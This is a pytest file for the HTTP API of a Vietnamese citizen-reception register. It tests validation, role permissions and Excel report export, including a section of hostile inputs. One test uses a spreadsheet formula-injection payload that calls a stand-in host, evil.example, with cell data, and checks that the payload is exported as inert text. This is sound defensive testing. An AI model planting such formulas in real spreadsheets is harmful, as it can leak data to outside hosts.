"""The reception register's rules through the HTTP API, on SQLite and PostgreSQL — and what a hostile caller gets.

The same rules as ``tests/services/test_register_law.py``, each with its refusing request and its
nearest passing one, as a client sends them: ``POST /api/plans/{id}/records``, the plan's start,
the central office's message and the unit's step, the report. A refusal is a 4xx with a Vietnamese
message on the field, and the database is as it was; so is every request a caller must not make.
"""

from __future__ import annotations

import io
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from app.clock import FrozenClock
from app.persistence.models import AuditEvent, Instance, ReceptionRecord
from app.procedures.na_session_reception import plans
from app.procedures.na_session_reception.register_rules import COMPETENT_AUTHORITY
from app.services.runtime import Runtime
from tests.conftest import basic
from tests.services.test_reception_plan import person, record
from tests.services.test_register_law import (
    NOTICES,
    SESSION_2021,
    SESSION_2026,
    complaint_record,
    on,
    outcome,
    start_plan,
    who,
)


def _counts(rt: Runtime) -> tuple[int, ...]:
    with rt.db.reading() as session:
        return tuple(session.scalar(select(func.count()).select_from(model)) or 0
                     for model in (Instance, AuditEvent, ReceptionRecord))


def _post(client: FlaskClient, plan: int, day: str, entry: Any, user: str = "reception") -> Any:
    return client.post(f"/api/plans/{plan}/records", json={"received_on": day, "record": entry}, headers=basic(user))


def _refused(client: FlaskClient, rt: Runtime, plan: int, day: str, entry: Any, status: int = 422,
             user: str = "reception") -> dict[str, str]:
    """Post a record that must be refused; the database must not change. Returns the answer's fields."""
    before = _counts(rt)
    response = _post(client, plan, day, entry, user)
    assert response.status_code == status, (response.status_code, response.get_json())
    assert _counts(rt) == before
    body = response.get_json()
    assert body["message"] and body["error"] != "internal_error"
    fields: dict[str, str] = body.get("fields") or {}
    return fields


@pytest.mark.parametrize("level", ["district_chair", "department_head", "department_unit_head"])
def test_a_record_posted_opens_a_case_addressed_by_its_issuer_level(client: FlaskClient, rt: Runtime,
                                                                    clock: FrozenClock, level: str) -> None:
    plan = start_plan(rt, clock)
    on(clock, "2021-03-24")
    department = {"department": "Sở Tài chính"} if level == "department_unit_head" else {}
    response = _post(client, plan, "2021-03-24", complaint_record(level, **department))
    assert response.status_code == 201, response.get_json()
    case = client.get(f"/api/instances/{response.get_json()['case_instance_id']}", headers=basic("auditor")).get_json()
    assert case["data"]["submitted_to"] == COMPETENT_AUTHORITY[level]
    assert [t["bpmn_id"] for t in case["tasks"]] == ["review_acceptance"]


def test_a_record_against_another_levels_decision_is_refused_on_its_field(client: FlaskClient, rt: Runtime,
                                                                          clock: FrozenClock) -> None:
    plan = start_plan(rt, clock)
    on(clock, "2021-03-24")
    fields = _refused(client, rt, plan, "2021-03-24", complaint_record("other"))
    assert "không thuộc thẩm quyền giải quyết lần hai của tỉnh" in fields["complaint.first_decision.issuer_level"]
    fields = _refused(client, rt, plan, "2021-03-24", complaint_record("department_unit_head"))
    assert fields == {"complaint.first_decision.department": "Chưa nhập «Sở, ban, ngành»."}


def test_the_case_gets_the_dossier_posted_and_a_record_without_one_opens_none(client: FlaskClient, rt: Runtime,
                                                                              clock: FrozenClock) -> None:
    plan = start_plan(rt, clock)
    on(clock, "2021-03-24")
    entry = complaint_record("district_chair")
    checked = entry["complaint"].pop("dossier")
    assert _refused(client, rt, plan, "2021-03-24", entry) == {
        "complaint.dossier": "Chưa nhập «Giấy tờ đã kiểm tra tại nơi tiếp»."}
    entry["complaint"]["dossier"] = {**checked, "petition_signature": "none"}
    created = _post(client, plan, "2021-03-24", entry).get_json()
    case = client.get(f"/api/instances/{created['case_instance_id']}", headers=basic("auditor")).get_json()
    assert case["data"]["dossier"] == {**checked, "petition_signature": "none", "evidence": []}


def test_guidance_needs_its_body_and_letter_and_a_refusal_its_lawful_ground(client: FlaskClient, rt: Runtime,
                                                                             clock: FrozenClock) -> None:
    plan = start_plan(rt, clock, SESSION_2026)
    on(clock, "2026-10-20")
    bare = record(handling="guided")
    letter = bare.pop("guided_to")
    assert _refused(client, rt, plan, "2026-10-12", bare) == {
        "guided_to": "Chưa nhập «Hướng dẫn công dân đến cơ quan có thẩm quyền»."}
    assert _refused(client, rt, plan, "2026-10-12", {**bare, "guided_to": {"body": "UBND xã Ia Mơ"}}) == {
        "guided_to.letter_number": "Chưa nhập «Số văn bản hướng dẫn»."}
    assert _post(client, plan, "2026-10-12", {**bare, "guided_to": letter}).status_code == 201
    refusal = record(handling="refused", refusal={"ground": "answered_petition"})
    assert list(_refused(client, rt, plan, "2026-10-12", refusal)) == ["refusal.notice"]
    late = {**refusal["refusal"], "notice": {"number": "07/TB-TCD", "issued_on": "2026-10-16"}}
    assert "chậm nhất ngày 15/10/2026" in _refused(client, rt, plan, "2026-10-12", {**refusal, "refusal": late})[
        "refusal.notice.issued_on"]
    lawful = {**late, "notice": {"number": "07/TB-TCD", "issued_on": "2026-10-15"}}
    assert _post(client, plan, "2026-10-12", {**refusal, "refusal": lawful}).status_code == 201


def test_a_plan_whose_reception_ends_after_the_session_is_refused_on_the_field(client: FlaskClient, rt: Runtime,
                                                                               clock: FrozenClock) -> None:
    on(clock, "2021-03-15")
    url = "/api/processes/na_session_reception/instances"
    before = _counts(rt)
    late = client.post(url, json={"data": {**SESSION_2021, "reception_end": "2021-04-08"}}, headers=basic("inspectorate"))
    assert late.status_code == 422 and "chậm nhất vào ngày bế mạc kỳ họp (07/04/2021)" in late.get_json()["fields"][
        "reception_end"]
    missing = {k: v for k, v in SESSION_2021.items() if k != "reception_start"}
    answer = client.post(url, json={"data": missing}, headers=basic("inspectorate"))
    assert answer.status_code == 422 and answer.get_json()["fields"] == {
        "reception_start": "Chưa nhập «Bắt đầu tiếp công dân»."}
    assert _counts(rt) == before
    early = client.post(url, json={"data": {**SESSION_2021, "reception_start": "2021-03-17"}},
                        headers=basic("inspectorate"))
    assert early.status_code == 201
    days = plans.dashboard(rt, who(rt, "inspectorate"), early.get_json()["id"]).plan.reception_days
    assert days[0].isoformat() == "2021-03-17"


def test_the_report_pairs_each_central_notice_with_its_own_outcome(client: FlaskClient, rt: Runtime,
                                                                   clock: FrozenClock) -> None:
    plan = start_plan(rt, clock)
    on(clock, "2021-03-30")
    for notice in NOTICES.values():
        sent = client.post(f"/api/instances/{plan}/messages/central_coordination", json={"payload": notice},
                           headers=basic("inspectorate"))
        assert sent.status_code == 200, sent.get_json()
    units = {"Huyện Chư Prông": "U01", "Thành phố Pleiku": "U02"}
    for event in plans.dashboard(rt, who(rt, "inspectorate"), plan).central_events:
        done = client.post(f"/api/tasks/{event.task.id}/complete", headers=basic("inspectorate"), json={"data": {
            "alert": {"unit_code": units[event.notice["home_area"]], "alerted_at": "2021-03-30T11:00:00+07:00",
                      "instructions": "Cử cán bộ ra Hà Nội"}}})
        assert done.status_code == 200, done.get_json()
    waiting = {e.notice["home_area"]: e.task.id for e in plans.dashboard(rt, who(rt, "inspectorate"), plan).central_events}
    for area, data in (("Thành phố Pleiku", outcome("returned", "2021-03-31")), ("Huyện Chư Prông", outcome("not_returned"))):
        done = client.post(f"/api/tasks/{waiting[area]}/complete", json={"data": data}, headers=basic("unit_head"))
        assert done.status_code == 200, done.get_json()
    report = client.get(f"/api/plans/{plan}/report", headers=basic("inspectorate")).get_json()
    assert {e["home_area"]: e["outcome"]["result"] for e in report["central_events"]} == {
        "Huyện Chư Prông": "not_returned", "Thành phố Pleiku": "returned"}
    assert report["reception_window"] == ["2021-03-24", "2021-04-07"]
    book = load_workbook(io.BytesIO(client.get(f"/api/plans/{plan}/report.xlsx", headers=basic("inspectorate")).data))
    rows = {row[2]: row[4] for row in book["Phối hợp Trung ương"].iter_rows(min_row=2, values_only=True)}
    assert rows == {8: "Chưa về", 3: "Đã về địa phương"}


# -- a hostile caller ------------------------------------------------------------------------------

@pytest.mark.parametrize(("user", "status"), [("resolver", 403), ("verifier", 403), ("clerk", 403), ("unit_head", 403),
                                              ("analyst", 403), ("auditor", 403), ("admin", 403)])
def test_a_role_that_keeps_no_register_cannot_write_in_it(client: FlaskClient, rt: Runtime, clock: FrozenClock,
                                                          user: str, status: int) -> None:
    plan = start_plan(rt, clock)
    on(clock, "2021-03-24")
    _refused(client, rt, plan, "2021-03-24", record(), status=status, user=user)
    assert _post(client, plan, "2021-03-24", record(), user="inspectorate").status_code == 201  # the nearest: allowed


HOSTILE: list[tuple[str, dict[str, Any], int, str]] = [
    ("NUL in the content", record(content="Nội dung\x00ẩn"), 400, "record.content"),
    ("escape in the guided body", record(handling="guided", guided_to={"body": "UBND\x1b[2J", "letter_number": "1"}),
     400, "record.guided_to.body"),
    ("bell in a refusal notice", record(handling="refused", refusal={"ground": "protracted", "notice": {
        "number": "01\x07", "issued_on": "2021-03-24"}}), 400, "record.refusal.notice.number"),
    ("a billion people", {**record(people=10**9), "representatives": [person("Siu N")]}, 422, "people_count"),
    ("ground no law lists", record(handling="refused", refusal={"ground": "looks_suspicious"}), 422, "refusal.ground"),
    ("guidance letter 10,000 characters", record(handling="guided", guided_to={"body": "UBND", "letter_number": "9" * 10_000}),
     422, "guided_to.letter_number"),
    ("record as a list", [record()], 400, ""),
]


@pytest.mark.parametrize(("entry", "status", "field"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_hostile_records_get_a_4xx_on_their_field_and_change_nothing(client: FlaskClient, rt: Runtime,
                                                                     clock: FrozenClock, entry: Any, status: int,
                                                                     field: str) -> None:
    plan = start_plan(rt, clock)
    on(clock, "2021-03-24")
    fields = _refused(client, rt, plan, "2021-03-24", entry, status=status)
    if field:
        assert field in fields, fields


def test_an_integer_of_5000_digits_is_refused_on_its_field_not_a_server_error(client: FlaskClient, rt: Runtime,
                                                                              clock: FrozenClock) -> None:
    plan = start_plan(rt, clock)
    on(clock, "2021-03-24")
    before = _counts(rt)
    body = (b'{"received_on": "2021-03-24", "record": {"persons": [{"full_name": "A"}], "address": "X", "content": "Y",'
            b' "kind": "petition", "handling": "explained", "people_count": ' + b"9" * 5000 + b"}}")
    response = client.post(f"/api/plans/{plan}/records", data=body,
                           headers={**basic("reception"), "Content-Type": "application/json"})
    assert response.status_code == 422 and "people_count" in response.get_json()["fields"], response.get_json()
    assert _counts(rt) == before


def test_text_beginning_with_equals_reaches_the_register_sheet_as_text(client: FlaskClient, rt: Runtime,
                                                                       clock: FrozenClock) -> None:
    plan = start_plan(rt, clock)
    on(clock, "2021-03-24")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    entry = record(handling="guided", persons=[person(formula)], follow_up="=1+1",
                   guided_to={"body": "@SUM(1,2)", "letter_number": "+12/HD"})
    assert _post(client, plan, "2021-03-24", entry).status_code == 201
    book = load_workbook(io.BytesIO(client.get(f"/api/plans/{plan}/report.xlsx", headers=basic("inspectorate")).data))
    sheet = book["Sổ tiếp công dân"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)
             and c.value.startswith(("=", "+", "-", "@"))]
    assert {c.value for c in cells} >= {f"{formula}, Phường Hoa Lư, TP Pleiku", "=1+1",
                                         "@SUM(1,2) (văn bản hướng dẫn số +12/HD)"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
